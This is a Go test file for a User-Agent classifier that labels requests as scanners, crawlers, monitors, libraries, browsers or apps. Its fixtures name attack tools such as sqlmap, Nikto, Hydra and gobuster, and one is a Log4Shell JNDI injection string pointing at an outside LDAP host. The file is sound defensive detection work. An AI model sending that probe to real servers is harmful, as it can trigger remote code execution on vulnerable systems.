package signature

import (
	"fmt"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func agents(t testing.TB) *Agents {
	t.Helper()
	a, err := NewAgents(7)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestClassify(t *testing.T) {
	a := agents(t)
	tests := []struct {
		ua, name string
		class    AgentClass
	}{
		{"", "", AgentEmpty},
		{"-", "", AgentEmpty},
		{"sqlmap/1.8.2#stable (https://sqlmap.org)", "sqlmap", AgentScanner},
		{"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Nikto", AgentScanner},
		{"Fuzz Faster U Fool v2.1.0", "ffuf", AgentScanner},
		{"gobuster/3.6", "gobuster", AgentScanner},
		{"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "DirBuster", AgentScanner},
		{"feroxbuster/2.10.1", "feroxbuster", AgentScanner},
		{"Wfuzz/3.1.0", "wfuzz", AgentScanner},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap", AgentScanner},
		{"Mozilla/5.0 (Hydra)", "Hydra", AgentScanner},
		{"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "WPScan", AgentScanner},
		{"Mozilla/5.0 zgrab/0.x", "ZGrab", AgentScanner},
		{"${jndi:ldap://203.0.113.7/a}", "Log4Shell probe", AgentScanner},
		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "dirb", AgentScanner},
		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", "", AgentBrowser},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", AgentCrawler},
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "bingbot", AgentCrawler},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", AgentCrawler},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ClaudeBot", AgentCrawler},
		{"SomethingNewBot/0.1 (+https://example.org/bot)", "", AgentCrawler},
		{"Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "UptimeRobot", AgentMonitor},
		{"kube-probe/1.29", "kube-probe", AgentMonitor},
		{"ELB-HealthChecker/2.0", "ELB health check", AgentMonitor},
		{"check_http/v2.3.3 (monitoring-plugins 2.3.3)", "Nagios", AgentMonitor},
		{"curl/8.5.0", "curl", AgentLibrary},
		{"python-requests/2.31.0", "python-requests", AgentLibrary},
		{"Go-http-client/1.1", "Go", AgentLibrary},
		{"okhttp/4.12.0", "okhttp", AgentLibrary},
		{"Java/17.0.9", "Java", AgentLibrary},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "", AgentBrowser},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "", AgentBrowser},
		{"Mozilla/5.0 (Linux; Android 8.0.0; CUBOT_P20) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0 Mobile Safari/537.36", "phone", AgentBrowser},
		{"MyShop/3.2 CFNetwork/1408.0.4 Darwin/22.5.0", "Apple app", AgentApp},
		{"something else entirely", "", AgentUnknown},
	}
	for range 2 { // the second time from the cache
		for _, tt := range tests {
			got := a.Classify(tt.ua)
			want := Agent{Name: tt.name, Class: tt.class, Confidence: got.Confidence}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("Classify(%q) (-want +got):\n%s", tt.ua, diff)
			}
		}
	}
	if dirb, nikto := a.Classify("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"), a.Classify("Nikto/2"); dirb.Confidence >= nikto.Confidence {
		t.Errorf("dirb's user agent is as sure as Nikto's: %d, %d", dirb.Confidence, nikto.Confidence)
	}
}

// Answers must not depend on what else was asked: neither on slots that collide nor on what was there before.
func TestCacheChangesNothing(t *testing.T) {
	warm := agents(t)
	var uas []string
	for i := range 3 * cacheSlots {
		uas = append(uas, fmt.Sprintf("%s/%d.%d", []string{"curl", "sqlmap", "Firefox", "x"}[i%4], i, i*7))
	}
	for range 2 {
		for _, ua := range uas {
			want := Agent{}
			if i := warm.match(ua); i >= 0 {
				want = warm.entries[i].agent
			}
			if got := warm.Classify(ua); got != want {
				t.Fatalf("Classify(%q) = %+v, without the cache %+v", ua, got, want)
			}
		}
	}
}

func TestClassifyDoesNotAllocate(t *testing.T) {
	a := agents(t)
	i := 0
	uas := []string{"curl/8", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "sqlmap"}
	if n := testing.AllocsPerRun(100, func() {
		a.Classify(uas[i%len(uas)])
		a.match(uas[i%len(uas)])
		i++
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzClassify(f *testing.F) {
	f.Add("Mozilla/5.0 (compatible; bot/1.0)")
	a := agents(f)
	f.Fuzz(func(t *testing.T, ua string) {
		if first, second := a.Classify(ua), a.Classify(ua); first != second || first.Class >= agentClasses {
			t.Errorf("Classify(%q) = %+v, then %+v", ua, first, second)
		}
	})
}

func BenchmarkClassify(b *testing.B) {
	a := agents(b)
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
	b.Run("cached", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			a.Classify(ua)
		}
	})
	b.Run("miss", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			a.match(ua)
		}
	})
}
